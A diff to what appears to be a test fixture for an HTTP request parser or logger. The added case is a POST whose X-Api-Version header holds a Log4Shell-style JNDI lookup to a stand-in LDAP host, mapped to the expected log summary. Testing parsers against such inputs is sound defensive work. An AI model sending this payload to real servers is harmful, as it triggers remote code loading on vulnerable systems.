@@ -18,6 +18,9 @@ SPOKEN = {
     b"GET /a?b=%27%2527 HTTP/1.1\r\nHost: h\r\nUser-Agent: u a\r\nReferer: r\r\nCookie: a=1\r\nCookie: b=2\r\n\r\n": [
         'HTTP GET /a?b=\'%27 host=h ua="u a" cookie=a=1; b=2 referer=r'
     ],
+    b"POST /p HTTP/1.1\r\nAccept: */*;q=0.8\r\nX-Api-Version: ${jndi:ldap://a.test/b}\r\nContent-Length: 1\r\n\r\nx": [
+        "HTTP POST /p headers=x-api-version: ${jndi:ldap://a.test/b} body=x"
+    ],
     b"POST /p HTTP/1.1\r\nContent-Length: 5\r\n\r\nhelloGET /2 HTTP/1.1\r\n\r\n": [
         "HTTP POST /p body=hello",
         "HTTP GET /2",
